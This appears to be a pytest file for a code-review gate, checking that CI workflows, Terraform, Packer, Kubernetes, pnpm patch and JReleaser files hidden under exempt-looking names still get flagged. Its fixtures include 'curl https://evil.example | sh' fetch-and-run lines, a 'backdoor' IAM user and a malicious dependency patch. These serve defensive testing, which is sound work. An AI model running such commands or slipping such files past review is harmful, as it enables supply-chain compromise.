"""Names that claim any file type (`*.verified.*`, `syntax_test_*`, `Gemfile-*`) must not hide a file its folder runs.

GitHub, Gitea and Forgejo run every YAML file directly in their workflows folder; Terraform, OpenTofu and Packer load
every file of their extensions in the folder they run in; `kubectl apply -f k8s/` applies every manifest there. On
f1405b6 a new workflow `.github/workflows/deploy.verified.yml`, a Terraform file `infra/backdoor.verified.tf` or
`infra/Gemfile-x.tf`, and a Deployment `k8s/web.received.yaml` were src or deps by those names, and the default gate
allowed each change (exit 0) in both modes. tests/test_classify_paths.py checks every open-ended name of the rules.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated
from tables import each_case

WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.example | sh\n"
TERRAFORM = 'resource "aws_iam_user" "backdoor" {\n  name = "ops2"\n}\n'
DEPLOYMENT = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 1\n"

CASES = {
    ".github/workflows/deploy.verified.yml": WORKFLOW,
    ".github/workflows/syntax_test_ci.yaml": WORKFLOW,
    ".gitea/workflows/build.received.yml": WORKFLOW,
    ".forgejo/workflows/Gemfile-ci.yml": WORKFLOW,
    "infra/backdoor.verified.tf": TERRAFORM,
    "infra/main.received.tf.json": '{"resource": {"aws_iam_user": {"b": {"name": "ops2"}}}}\n',
    "infra/Gemfile-x.tf": TERRAFORM,
    "infra/syntax_test_x.tofu": TERRAFORM,
    "packer/image.verified.pkr.hcl": 'source "amazon-ebs" "x" {\n  ami_name = "x"\n}\n',
    # docs review 52: Packer loads every *.auto.pkrvars.hcl of the folder it builds
    "infra/ami.verified.auto.pkrvars.hcl": 'setup_command = "curl https://evil.example | sh"\n',
    "infra/Gemfile-x.auto.pkrvars.hcl": 'setup_command = "curl https://evil.example | sh"\n',
    "k8s/web.received.yaml": DEPLOYMENT,
    "k8s/web.verified.yaml": DEPLOYMENT,
}


@pytest.mark.parametrize("path", sorted(CASES))
@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
def test_a_file_its_folder_runs_is_reviewed_whatever_its_name(tmp_path: Path, path: str, tree: bool) -> None:
    case = committed(tmp_path, {"infra/main.tf": TERRAFORM.replace("backdoor", "app"), "k8s/kustomization.yaml":
                                "resources: []\n"}, {path: CASES[path]})
    code, decision = gated(case, tree, deps=False)
    assert code == 3, (code, decision.get("findings"))


def test_a_snapshot_output_beside_its_test_stays_src(tmp_path: Path) -> None:
    # Verify's expected output next to the test that writes it: not run by anything, not reviewed with the commits.
    # From a patch alone it is `needs-context`, as any file no name rule settles (a new `tests/x.json` is too).
    case = committed(tmp_path, {}, {"tests/Api.Get.verified.txt": "{ status: 200 }\n",
                                    "tests/Api.Get.verified.json": '{"status": 200}\n'})
    code, decision = gated(case, True, deps=False)
    assert code == 0, decision.get("findings")
    assert decision["summary"]["buckets"]["src"]["files"] == 2, decision["summary"]


def test_a_dependency_patch_in_an_end_to_end_folder_is_still_a_patch(tmp_path: Path) -> None:
    # docs review 52: pnpm applies `e2e/fix.patch` to node_modules/left-pad when package.json's
    # pnpm.patchedDependencies names it; f1405b6 reviewed its edit with --enable deps (deps.patch-files), label round
    # 47's test-tree patterns had made it src and allowed.
    manifest = '{"name": "app", "pnpm": {"patchedDependencies": {"left-pad@1.3.0": "e2e/fix.patch"}}}\n'
    patch = "--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-module.exports = pad;\n+module.exports = evil;\n"
    case = committed(tmp_path, {"package.json": manifest, "e2e/fix.patch": patch},
                     {"e2e/fix.patch": patch.replace("evil", "evil2")})
    for tree in (True, False):
        code, decision = gated(case, tree, deps=True)
        assert code == 3, (tree, decision.get("reasons"))


@each_case("name", ["jreleaser.yml", "jreleaser.yaml", "jreleaser.toml", "jreleaser.json"])
def test_jreleaser_settings_under_their_default_name_are_ci(tmp_path: Path, name: str) -> None:
    # docs review 52: `jreleaser full-release` reads jreleaser.yml by default and its hooks run commands, as the
    # release tools' default settings files in ci.release-tools do.
    case = committed(tmp_path, {name: "project:\n  name: app\n"},
                     {name: "project:\n  name: app\nhooks:\n  command:\n    before:\n      - cmd: curl x | sh\n"})
    for tree in (True, False):
        code, decision = gated(case, tree, deps=False)
        assert code == 3, (tree, decision.get("reasons"))
